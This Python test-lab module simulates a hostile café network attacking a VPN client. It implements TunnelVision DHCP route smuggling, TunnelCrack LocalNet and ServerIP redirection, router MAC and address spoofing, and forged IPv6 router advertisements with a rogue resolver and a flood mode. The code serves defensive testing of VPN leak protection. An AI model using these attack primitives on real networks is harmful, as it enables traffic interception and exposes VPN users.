"""What whoever runs the café can do."""

from __future__ import annotations

import contextlib
import json
import os
import select
import socket
import struct
import threading
from collections.abc import Sequence
from pathlib import Path
from types import TracebackType
from typing import Self

from ..closing import Closing
from ..lab import Lab
from ..network import CAFE, HOME, INTERNET_HOST, OFFICE, VPN_GATEWAY, Network
from ..vpn import PORT
from ..waiting import wait_until
from .place import call_in
from .traffic import INTERNET_HOST6, NEIGHBOUR

# TunnelVision (CVE-2024-3661): one host, and both halves of the internet as redirect-gateway's own /1 (RFC 3442).
SMUGGLED_ROUTES = (f"{INTERNET_HOST}/32", "0.0.0.0/1", "128.0.0.0/1", "0.0.0.0/0")

# TunnelCrack's LocalNet (CVE-2023-36672): the café's own network is where the victim's server is.
PUBLIC_PREFIX = INTERNET_HOST.rpartition(".")[0]
PUBLIC_ROUTER = f"{PUBLIC_PREFIX}.254"

# TunnelCrack's ServerIP (CVE-2023-36673): a name that only the café knows.
ENDPOINT_NAME = "gate.example.org"
_RELAY = f"""
table ip relay {{
    chain c {{
        type nat hook prerouting priority dstnat
        iifname "lan" ip daddr {INTERNET_HOST} udp dport {PORT} dnat to {VPN_GATEWAY}
    }}
}}
"""

ROGUE_RESOLVER = f"{CAFE.prefix6}bad"
ROGUE_MAC = bytes.fromhex(CAFE.router_mac.replace(":", ""))
_ALL_NODES = "ff02::1"
_STORM = 300  # advertisements, which are then repeated


def add_neighbour(network: Network, site: str = CAFE.name) -> None:
    """Put another machine on the link: the router by another address."""
    chosen = network.sites[site]
    for address in (f"192.168.{chosen.number}.{NEIGHBOUR}/24", f"{chosen.prefix6}{NEIGHBOUR}/64"):
        options = ["nodad"] if ":" in address else []
        network.run(site, ["ip", "addr", "add", address, "dev", "lan", *options])


def smuggle_routes(lab: Lab) -> None:
    """Hand out routes by DHCP option 121 which are more special than a tunnel's, or as special."""
    routes = ",".join(f"{route},{CAFE.router}" for route in SMUGGLED_ROUTES)
    lab.network.change_dhcp(CAFE.name, f"--dhcp-option=121,{routes}")


def lease_public_addresses(lab: Lab) -> None:
    """Be the network in which the victim's server is, and the server."""
    for address in (PUBLIC_ROUTER, INTERNET_HOST):
        lab.network.run(CAFE.name, ["ip", "addr", "add", f"{address}/24", "dev", "lan"])
    lab.network.change_dhcp(CAFE.name, f"--dhcp-option=option:router,{PUBLIC_ROUTER}", prefix=PUBLIC_PREFIX)


def lie_about_endpoint(lab: Lab) -> None:
    """Answer for the tunnel's endpoint with a victim's address, and relay the tunnel, so that it connects."""
    lab.network.change_dhcp(CAFE.name, f"--address=/{ENDPOINT_NAME}/{INTERNET_HOST}")
    lab.network.run(CAFE.name, ["nft", "-f", "-"], text=_RELAY)


def forge_office(lab: Lab) -> None:
    """Take the office router's MAC address and announce the office's domain."""
    lab.network.rename_domain(CAFE.name, OFFICE.domain)
    lab.network.run(CAFE.name, ["ip", "link", "set", "lan", "address", OFFICE.router_mac])


def impersonate_home_router(lab: Lab) -> None:
    """Answer for the address, not the MAC address, of home's router."""
    lab.network.run(CAFE.name, ["ip", "addr", "add", f"{HOME.router}/24", "dev", "lan"])


class RogueRouter(Closing):
    """Sends router advertisements with more special routes and a resolver of its own, until `close`.

    RFC 4861, section 4.2; RFC 4191, section 2.3 (routes); RFC 8106, section 5.1 (resolvers).
    """

    def __init__(self, network: Network, site: str = CAFE.name, routes: Sequence[str] = (INTERNET_HOST6,)) -> None:
        network.run(site, ["ip", "addr", "add", f"{ROGUE_RESOLVER}/64", "dev", "lan", "nodad"])
        self._packet = make_advertisement(routes, ROGUE_RESOLVER)
        self._socket, self._index = call_in(network.namespace(site), _open_icmp6)
        self._ended, self._end = os.pipe()
        self._thread = threading.Thread(target=self._send, name="rogue router", daemon=True)
        self._thread.start()

    def close(self) -> None:
        """Send no more."""
        os.close(self._end)
        self._thread.join()
        os.close(self._ended)
        self._socket.close()

    def _send(self) -> None:
        poll = select.poll()
        poll.register(self._ended, select.POLLHUP)
        while True:
            with contextlib.suppress(OSError):
                self._socket.sendto(self._packet, (_ALL_NODES, 0, 0, self._index))
            if poll.poll(300):
                return


def make_advertisement(routes: Sequence[str], resolver: str) -> bytes:
    """Return an advertisement of a router with high preference, with routes to hosts, and a resolver."""
    high, lifetime = 0x08, 1800
    parts = [struct.pack("!BBHBBHII", 134, 0, 0, 64, high, lifetime, 0, 0), bytes((1, 1)) + ROGUE_MAC]
    prefix = socket.inet_pton(socket.AF_INET6, CAFE.prefix6)
    parts.append(struct.pack("!BBBBIII", 3, 4, 64, 0xC0, lifetime, lifetime, 0) + prefix)
    for route in routes:
        parts.append(struct.pack("!BBBBI", 24, 3, 128, high, lifetime) + socket.inet_pton(socket.AF_INET6, route))
    parts.append(struct.pack("!BBHI", 25, 3, 0, lifetime) + socket.inet_pton(socket.AF_INET6, resolver))
    return b"".join(parts)


class AdvertisementStorm(Closing):
    """Floods a site with router advertisements, some hundred a second, until `close`; no two in a row are alike.

    steady: whether they come from a neighbour that is no router, with prefixes and lifetimes that change all the time.
    Else they come from many routers as well, which appear and disappear.
    """

    def __init__(self, network: Network, site: str, steady: bool) -> None:
        jobs = [
            {"kind": str(number), "how": "frame", "bind": "lan", "data": _make_storm(number, steady).hex()}
            for number in range(_STORM)
        ]
        orders = {"jobs": jobs, "uid": 0, "pause": 20, "burst": 10, "counts": f"/run/storm-{site}"}
        program = (Path(__file__).parent / "generator.py").read_text()
        argv = ["/usr/bin/python3", "-IS", "-", json.dumps(orders)]
        self._running = network.start(site, argv, text=program)
        wait_until(lambda: self._is_sending(network, site), "the storm of advertisements")

    def close(self) -> None:
        """Send no more."""
        self._running.kill()
        self._running.wait()

    def _is_sending(self, network: Network, site: str) -> bool:
        assert self._running.process.poll() is None, self._running.wait()
        return bool(network.read(f"/run/storm-{site}"))


def _make_storm(number: int, steady: bool) -> bytes:
    """Return the frame of one of the advertisements of a storm."""
    router = 0 if steady else number % 50
    source = socket.inet_pton(socket.AF_INET6, f"fe80::bad:{router:x}")
    mac = bytes((2, 0, 0x5E, 0, 0xBA, router))
    lifetime = 0 if steady else 1800 * (number // 50 % 2)
    parts = [struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, lifetime, 0, 0), bytes((1, 1)) + mac]
    prefix = socket.inet_pton(socket.AF_INET6, f"2001:db8:bad:{number:x}::")
    # On the link, and for addresses.
    parts.append(struct.pack("!BBBBIII", 3, 4, 64, 0xC0, 7200 + number, 3600 + number, 0) + prefix)
    body = b"".join(parts)
    target = socket.inet_pton(socket.AF_INET6, _ALL_NODES)
    pseudo = source + target + struct.pack("!II", len(body), socket.IPPROTO_ICMPV6) + body
    total = sum(struct.unpack(f"!{len(pseudo) // 2}H", pseudo))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    body = body[:2] + struct.pack("!H", ~total & 0xFFFF) + body[4:]
    header = struct.pack("!IHBB", 6 << 28, len(body), socket.IPPROTO_ICMPV6, 255) + source + target
    return bytes.fromhex("333300000001") + mac + b"\x86\xdd" + header + body


def _open_icmp6() -> tuple[socket.socket, int]:
    index = socket.if_nametoindex("lan")
    packets = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
    packets.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, 255)
    packets.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_IF, index)
    return packets, index


class Visitor:
    """Whoever connects to the laptop from the café's network: a connection to `port` of `address`, until `close`.

    Raises OSError where it is refused, TimeoutError where nobody answers.
    """

    def __init__(self, network: Network, address: str, port: int, timeout: float = 2.0) -> None:
        self._socket = call_in(
            network.namespace(CAFE.name), lambda: socket.create_connection((address, port), timeout)
        )

    def __enter__(self) -> Self:
        return self

    def __exit__(
        self, kind: type[BaseException] | None, error: BaseException | None, traceback: TracebackType | None
    ) -> None:
        self._socket.close()

    def ask(self, text: bytes) -> bytes:
        """Send `text`, and return what is answered."""
        self._socket.sendall(text)
        return self._socket.recv(4096)
